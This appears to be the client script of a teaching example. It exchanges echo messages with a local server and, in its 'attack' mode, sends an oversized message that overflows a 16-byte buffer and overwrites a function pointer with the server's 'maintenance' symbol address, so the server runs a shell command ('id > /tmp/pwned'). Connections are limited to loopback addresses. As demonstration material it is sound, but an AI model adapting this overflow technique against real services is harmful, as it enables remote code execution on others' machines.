// The example's client. `benign` holds a few conversations as any client would; `attack` overwrites the server's function
// pointer, so that it runs a shell command. Loopback only.
//
//   node client.js benign 127.0.0.1:7007
//   node client.js attack 127.0.0.1:7007 --binary echod [--command 'id > /tmp/pwned']
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { connect, isIPv4, type Socket } from 'node:net';
import { parseArgs } from 'node:util';
import { ElfSource, parseElf, staticSymbols } from '../../src/elf/index.ts';

const bufferSize = 16;

class Conversation {
  private readonly socket: Socket;
  private received: Buffer = Buffer.alloc(0);

  constructor(socket: Socket) {
    this.socket = socket;
    socket.on('data', (chunk: Buffer) => {
      this.received = Buffer.concat([this.received, chunk]);
    });
    // The other end may go away in the middle of anything.
    socket.on('error', () => undefined);
  }

  static async open(host: string, port: number): Promise<Conversation> {
    const socket = connect({ host, port });
    await once(socket, 'connect');
    return new Conversation(socket);
  }

  send(message: Uint8Array): void {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(message.length);
    this.socket.write(Buffer.concat([length, message]));
  }

  /** The next answer; undefined where the server closes instead. */
  async answer(): Promise<Buffer | undefined> {
    for (;;) {
      const length = this.received.length < 4 ? undefined : this.received.readUInt32BE();
      if (length !== undefined && this.received.length >= 4 + length) {
        const message = this.received.subarray(4, 4 + length);
        this.received = this.received.subarray(4 + length);
        return message;
      }
      if (this.socket.readableEnded || this.socket.destroyed) return undefined;
      await Promise.race([once(this.socket, 'data'), once(this.socket, 'close')]);
    }
  }

  async close(): Promise<void> {
    if (this.socket.destroyed) return;
    this.socket.end();
    await once(this.socket, 'close');
  }
}

async function benign(host: string, port: number): Promise<void> {
  for (const words of [['hello', 'world'], ['one'], ['a longer message'], ['again', 'and again', 'bye']]) {
    const conversation = await Conversation.open(host, port);
    for (const word of words) {
      conversation.send(Buffer.from(word));
      const answer = await conversation.answer();
      if (answer?.toString() !== word) throw new Error(`sent ${word}, got ${answer}`);
    }
    await conversation.close();
  }
  process.stderr.write('client: 4 conversations, every answer as sent\n');
}

async function attack(host: string, port: number, binary: string, command: string): Promise<void> {
  const text = Buffer.from(command);
  if (text.length >= bufferSize) throw new Error(`the command must be shorter than ${bufferSize} bytes`);
  const message = Buffer.alloc(bufferSize + 8);
  text.copy(message);
  message.writeBigUInt64LE(BigInt(addressOf(binary, 'maintenance')), bufferSize);
  const conversation = await Conversation.open(host, port);
  conversation.send(message);
  // The server answers nothing: it runs the command instead. The next message finds it alive.
  await new Promise((resolve) => setTimeout(resolve, 300));
  await conversation.close();
  process.stderr.write(
    `client: sent ${message.length} bytes for a buffer of ${bufferSize}, to run: ${command}\n`,
  );
}

function addressOf(binary: string, symbol: string): number {
  const symbols = staticSymbols(parseElf(ElfSource.ofBytes(readFileSync(binary), binary)));
  for (let i = 0; i < (symbols?.count ?? 0); i++) if (symbols?.name(i) === symbol) return symbols.value(i);
  throw new Error(`${binary}: no symbol ${symbol}`);
}

const { positionals, values } = parseArgs({
  allowPositionals: true,
  options: {
    binary: { type: 'string', default: 'echod' },
    command: { type: 'string', default: 'id > /tmp/pwned' },
  },
});
const [mode, target = ''] = positionals;
const [host, port] = target.split(':');
if (
  (mode !== 'benign' && mode !== 'attack') ||
  !isIPv4(host) ||
  !host.startsWith('127.') ||
  !(Number(port) > 0)
) {
  process.stderr.write('usage: client.js benign|attack 127.0.0.1:PORT [--binary FILE] [--command TEXT]\n');
  process.exit(2);
}
if (mode === 'benign') await benign(host, Number(port));
else await attack(host, Number(port), values.binary, values.command);
